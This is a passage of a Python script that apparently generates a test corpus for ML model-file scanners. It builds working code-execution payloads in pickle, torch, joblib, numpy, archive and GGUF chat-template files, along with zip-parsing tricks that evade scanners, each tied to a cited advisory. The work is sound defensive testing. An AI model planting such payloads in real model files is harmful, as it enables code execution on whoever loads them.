    a = Asm(4, True).glob("runpy", "_run_code").mark().str(pycode(n)).raw(b"}").tuple().reduce().stop()
    M(n + ".pkl", a.done(), "pickle", "runpy._run_code(src, {}) -> exec(src)", [P],
      MS + ": 'Fix Pickle Vulnerability Detection Gap' (PR 313)")
    n = "code_interpreter_runsource"
    a = Asm(4, True).glob("code", "InteractiveInterpreter.runsource").mark()
    a.glob("code", "InteractiveInterpreter").raw(b")R").str(pycode(n)).tuple().reduce().stop()
    M(n + ".pkl", a.done(), "pickle",
      "unbound method via dotted name: code.InteractiveInterpreter.runsource(instance, src)", [P],
      MS + " PR 313 (code.InteractiveInterpreter.runcode); " + PS + " PR 49 (idlelib runcode family)")
    n = "marshal_function"
    co = compile(pycode(n), "<bw>", "exec")
    a = Asm(4, True).glob("types", "FunctionType").mark()
    a.glob("marshal", "loads").bytes(marshal.dumps(co)).tuple1().reduce().raw(b"}").tuple().reduce()
    a.raw(b")R").stop()
    M(n + ".pkl", a.done(), "pickle",
      "types.FunctionType(marshal.loads(<code object>), {})(): bytecode, no source string "
      "(marshal format is CPython-3.11 specific)", [P], PS + " PR 74 (marshal)")
    n = "nested_pickle_loads"
    inner = call1(2, "os", "system", sh(n))
    a = Asm(4, True).glob("pickle", "loads").bytes(inner).tuple1().reduce().stop()
    M(n + ".pkl", a.done(), "pickle", "pickle.loads(<bytes of a second pickle>): payload is one level down",
      [P], PS + ": GHSA-84r2-jw7c-4r5q; 'Add _pickle module to unsafe globals' (issue 24)")
    n = "nested_pickle_codecs_p2"
    a = Asm(2).glob("_pickle", "loads").mark().glob("_codecs", "encode").mark()
    a.str(call1(2, "os", "system", sh(n)).decode("latin1"))
    a.str("latin1").tuple().reduce().tuple().reduce().stop()
    M(n + ".pkl", a.done(), "pickle",
      "_pickle.loads(_codecs.encode(<latin1 str>, 'latin1')): how protocol 2 spells bytes", [P],
      PS + ": 'Add _pickle module to unsafe globals' (issue 24)")
    n = "mailcap_findmatch"
    a = Asm(4, True).glob("mailcap", "findmatch").mark()
    a.raw(b"}").str("text/plain").raw(b"]").raw(b"}").mark().str("view").str("true").str("test")
    a.str(sh(n)).raw(b"u").raw(b"a").raw(b"s").str("text/plain").tuple().reduce().stop()
    M(n + ".pkl", a.done(), "pickle", "mailcap.findmatch(caps, type) runs the entry's 'test' "
      "command with os.system", [P], MS + ": 'Detect mailcap.findmatch pickle payloads' (PR 346)")
    n = "ctypes_libc_system"
    a = Asm(4, True).glob("ctypes", "CDLL.__getitem__").mark()
    a.glob("ctypes", "CDLL").raw(b"N").tuple1().reduce().str("system").tuple().reduce()
    a.bytes(sh(n).encode()).tuple1().reduce().stop()
    M(n + ".pkl", a.done(), "pickle", "ctypes.CDLL(None)['system'](b'cmd'): libc system() "
      "through ctypes, no os/subprocess names", [P],
      MS + ": 'fix: add ctypes, signal, http to unsafe_globals blocklist' (PR 339)")
    n = "pty_spawn_obj"
    a = Asm(None).mark().textglobal("pty", "spawn").raw(b"(lp0\n").str("touch").raw(b"a")
    a.str("bw-marker-" + n).raw(b"a").raw(b"o").stop()
    M(n + ".pkl", a.done(), "pickle", "pty.spawn(['touch', ...]) via the OBJ opcode", [P],
      FK + ": 'Add pty to unsafeimports' (PR 108); GHSA-r7v6-mfhq-g3m2")

    # ---- 4. torch containers ---------------------------------------------
    T = "torch.load"
    bio = io.BytesIO()
    torch.save(TinyNet().state_dict(), bio)
    base = zip_bytes_from(bio.getvalue())
    n = "torch_zip_payload"
    M(n + ".pt", zip_bytes(replace_member(base, "/data.pkl", pickle.dumps(Sys(sh(n)), protocol=2))),
      "torch-zip", "torch zip archive whose <prefix>/data.pkl is replaced by a payload pickle "
      "(the classic malicious checkpoint)", [T])
    n = "torch_zip_payload_bin"
    M(n + ".bin", zip_bytes(replace_member(base, "/data.pkl", p_getattr_chain(n))),
      "torch-zip", "same, saved as pytorch_model.bin-style '.bin' (torch.load ignores the extension)",
      [T], PS + ": 'Picklescan fails to detect unsafe globals in PyTorch models with non-standard "
      "Pickle file extensions' (GHSA-769v-p64c-89pr)")
    n = "torch_zip_deflated"
    M(n + ".pt", zip_bytes(replace_member(base, "/data.pkl", pickle.dumps(Sys(sh(n)), protocol=2)),
                           zipfile.ZIP_DEFLATED),
      "torch-zip", "every member deflate-compressed (torch.save only stores); the payload is not "
      "visible in the raw bytes", [T])
    n = "torch_zip_bad_crc"
    z = zip_bytes(replace_member(base, "/data.pkl", pickle.dumps(Sys(sh(n)), protocol=2)))
    z = patch_zip_entry(z, "/data.pkl", crc=0xDEADBEEF)
    M(n + ".pt", z, "torch-zip", "data.pkl CRC-32 wrong in local and central headers: Python "
      "zipfile raises BadZipFile, torch.load does not check CRCs and runs the payload", [T],
      PS + ": CVE-2025-10156 (CRC errors bypass); 'Zip Exploit Crashes Picklescan But Not "
      "PyTorch' (GHSA-7q5r-7gvp-wc82); pytorch PR 28858 (crc32 checks disabled)")
    n = "torch_zip_name_mismatch"
    z = zip_bytes(replace_member(base, "/data.pkl", pickle.dumps(Sys(sh(n)), protocol=2)))
    z = patch_zip_entry(z, "/data.pkl", local_name_tail=b"/data.pkX")
    M(n + ".pt", z, "torch-zip", "local file header names data.pkX while the central directory "
      "says data.pkl: Python zipfile refuses, torch.load reads by central directory and runs it",
      [T], PS + ": GHSA-7q5r-7gvp-wc82 family (zip parsing differentials)")
    for bit, tag in ((0x0001, "encrypted_flag"), (0x0008, "data_descriptor_flag")):
        n = "torch_zip_" + tag
        z = zip_bytes(replace_member(base, "/data.pkl", pickle.dumps(Sys(sh(n)), protocol=2)))
        z = patch_zip_entry(z, "/data.pkl", flag_or=bit)
        if try_prove(z, n, T):
            M(n + ".pt", z, "torch-zip", "general-purpose flag 0x%04x set on data.pkl (local and "
              "central): %s; torch.load reads by central directory and runs the payload"
              % (bit, "Python zipfile asks for a password" if bit == 1 else
                 "the local header's CRC and sizes are 0, so a scanner walking local headers "
                 "sees an empty data.pkl"), [T],
              PS + ": 'Zip Flag Bit Exploit Crashes Picklescan But Not PyTorch' (GHSA-w8jq-xcqf-f792)")
        else:
            DROPPED.append((n, "torch.load rejects flag 0x%04x" % bit))
    n = "polyglot_pickle_then_zip"
    M(n + ".pt", call1(2, "os", "system", sh(n)) + zip_bytes(base), "polyglot",
      "a payload pickle followed by a complete benign torch zip: zipfile/unzip see the benign "
      "checkpoint (central directory at the end), torch.load sees no PK magic at offset 0, takes "
      "the legacy path and unpickles the leading payload; pickle.load runs it too", [T, P])
    legacy_head = (pickle.dumps(0x1950a86a20f9469cfc6c, protocol=2) + pickle.dumps(1001, protocol=2)
                   + pickle.dumps({"protocol_version": 1001, "little_endian": True,
                                   "type_sizes": {"short": 2, "int": 4, "long": 4}}, protocol=2))
    n = "torch_legacy_payload"
    M(n + ".pt", legacy_head + pickle.dumps(Sys(sh(n)), protocol=2) + pickle.dumps([], protocol=2),
      "torch-legacy", "legacy (non-zip) torch format, valid magic/protocol/sys_info pickles, "
      "payload in the main object pickle", [T])
    n = "torch_legacy_payload_in_sysinfo"
    M(n + ".pt", pickle.dumps(0x1950a86a20f9469cfc6c, protocol=2) + pickle.dumps(1001, protocol=2)
      + call1(2, "os", "system", sh(n)) + pickle.dumps({}, protocol=2) + pickle.dumps([], protocol=2),
      "torch-legacy", "payload in the third (sys_info) pickle of a legacy file: a scanner that "
      "only checks the first or the main pickle misses it; torch.load unpickles all of them", [T])
    n = "torch_legacy_payload_in_magic"
    M(n + ".pt", call1(2, "os", "system", sh(n)) + legacy_head[len(pickle.dumps(0x1950a86a20f9469cfc6c, protocol=2)):]
      + pickle.dumps({}, protocol=2) + pickle.dumps([], protocol=2),
      "torch-legacy", "payload in place of the magic-number pickle: torch.load runs it before "
      "it can check the magic", [T])
    n = "torch_tar_payload"
    M(n + ".tar", tar_bytes([("storages", call1(2, "os", "system", sh(n))),
                             ("tensors", pickle.dumps(0, protocol=2)),
                             ("pickle", pickle.dumps({}, protocol=2))]),
      "torch-tar", "pre-0.4 torch tar checkpoint; torch.load extracts the 'storages' member and "
      "unpickles it", [T])

    # ---- 5. joblib / numpy -----------------------------------------------
    J = "joblib.load"
    n = "joblib_payload"
    joblib.dump(Sys(sh(n)), os.path.join(MALICIOUS, n + ".joblib"))
    M(n + ".joblib", open(os.path.join(MALICIOUS, n + ".joblib"), "rb").read(), "joblib",
      "joblib.dump of an object whose __reduce__ is os.system", [J])
    n = "joblib_payload_after_array"
    bio = io.BytesIO()
    joblib.dump({"coef": np.arange(64, dtype=np.float64), "z": Sys(sh(n))}, bio)
    M(n + ".joblib", bio.getvalue(), "joblib",
      "payload pickled after a NumpyArrayWrapper whose 512 raw array bytes sit inline in the stream: "
      "a scanner that cannot skip the array data stops before the payload", [J])
    for comp, tag, ld in (("gzip", "gz", [J, "pickle.load(gzip.open)"]), ("bz2", "bz2", [J]),
                          ("xz", "xz", [J]), ("lzma", "lzma", [J]), ("zlib", "z", [J])):
        n = "compressed_" + comp
        body = call1(4, "os", "system", sh(n))
        data = {"gzip": lambda b: gzip.compress(b, mtime=0), "bz2": bz2.compress,
                "xz": lambda b: lzma.compress(b, format=lzma.FORMAT_XZ),
                "lzma": lambda b: lzma.compress(b, format=lzma.FORMAT_ALONE),
                "zlib": zlib.compress}[comp](body)
        M(n + ".joblib." + tag, data, "compressed-pickle",
          "payload pickle wrapped in %s; joblib.load sniffs the magic and decompresses" % comp, ld)
    N = "numpy.load"
    n = "numpy_object_array"
    arr = np.empty(2, dtype=object)
    arr[0] = 1.5
    arr[1] = Sys(sh(n))
    bio = io.BytesIO()
    np.save(bio, arr, allow_pickle=True)
    M(n + ".npy", bio.getvalue(), "numpy",
      ".npy with dtype '|O': the body after the header is a pickle (protocol 3)", [N])
    n = "numpy_raw_pickle"
    M(n + ".npy", call1(2, "os", "system", sh(n)), "numpy",
      "a bare pickle named .npy: numpy.load(allow_pickle=True) falls back to pickle.load when "
      "there is no \x93NUMPY magic", [N])
    n = "numpy_npz_object"
    arr[1] = Sys(sh(n))
    bio = io.BytesIO()
    np.lib.format.write_array(bio, arr, allow_pickle=True)
    ok = io.BytesIO()
    np.lib.format.write_array(ok, np.arange(4.0), allow_pickle=False)
    M(n + ".npz", zip_bytes([("weights.npy", ok.getvalue()), ("meta.npy", bio.getvalue())]),
      "numpy", ".npz whose second member is an object .npy; runs when the member is accessed",
      ["numpy.load(npz)[member]"])

    # ---- 6. plain archives ------------------------------------------------
    n = "archive_tar_pickle"
    M(n + ".tar", tar_bytes([("model/README", b"weights\n"),
                             ("model/model.pkl", call1(4, "os", "system", sh(n)))]),
      "archive", "tar holding a payload pickle", ["pickle.load after tar extraction"])
    n = "archive_targz_pickle"
    M(n + ".tar.gz", gzip.compress(tar_bytes([("model.pkl", call1(4, "os", "system", sh(n)))]), mtime=0),
      "archive", "gzip'd tar holding a payload pickle", ["pickle.load after tar extraction"])
    n = "archive_zip_pickle"
    M(n + ".zip", zip_bytes([("model/config.json", b"{}"),
                             ("model/model.pkl", call1(4, "os", "system", sh(n)))], zipfile.ZIP_DEFLATED),
      "archive", "zip (not torch layout) holding a deflated payload pickle",
      ["pickle.load after zip extraction"])

    # ---- 7. onnx external data --------------------------------------------
    make_onnx_traversal()

    # ---- 8. GGUF chat templates that escape an unsandboxed Jinja environment ----
    n = "gguf_template_subclasses"
    M(n + ".gguf", gguf_with_template(
        "{% for x in ().__class__.__base__.__subclasses__() %}{% if 'warning' in x.__name__ %}"
        "{{ x()._module.__builtins__['__import__']('os').popen('" + sh(n) + "').read() }}"
        "{% endif %}{% endfor %}"),
      "gguf", "chat template walks object.__subclasses__() to warnings.catch_warnings and imports os "
      "(the published CVE-2024-34359 payload)", [GGUF_JINJA], source="CVE-2024-34359 (llama-cpp-python)")
    n = "gguf_template_lipsum_globals"
    M(n + ".gguf", gguf_with_template("{{ lipsum.__globals__['os'].popen('" + sh(n) + "').read() }}"),
      "gguf", "chat template reaches os through the lipsum global's __globals__", [GGUF_JINJA],
      source="Jinja SSTI technique against GGUF chat templates")


def main():
    for d in (BENIGN, MALICIOUS):
        shutil.rmtree(d, ignore_errors=True)
        os.makedirs(d)
    print("benign:")
    make_benign()
    print("malicious:")
    make_malicious()
    with open(os.path.join(HERE, "expected.json"), "w") as f:
        json.dump(EXPECTED, f, indent=1, sort_keys=True)
        f.write("\n")
    nb = sum(1 for k in EXPECTED if k.startswith("benign/"))
    nm = sum(1 for k in EXPECTED if k.startswith("malicious/"))
    print("%d benign, %d malicious, dropped: %s" % (nb, nm, DROPPED))


if __name__ == "__main__":
    main()
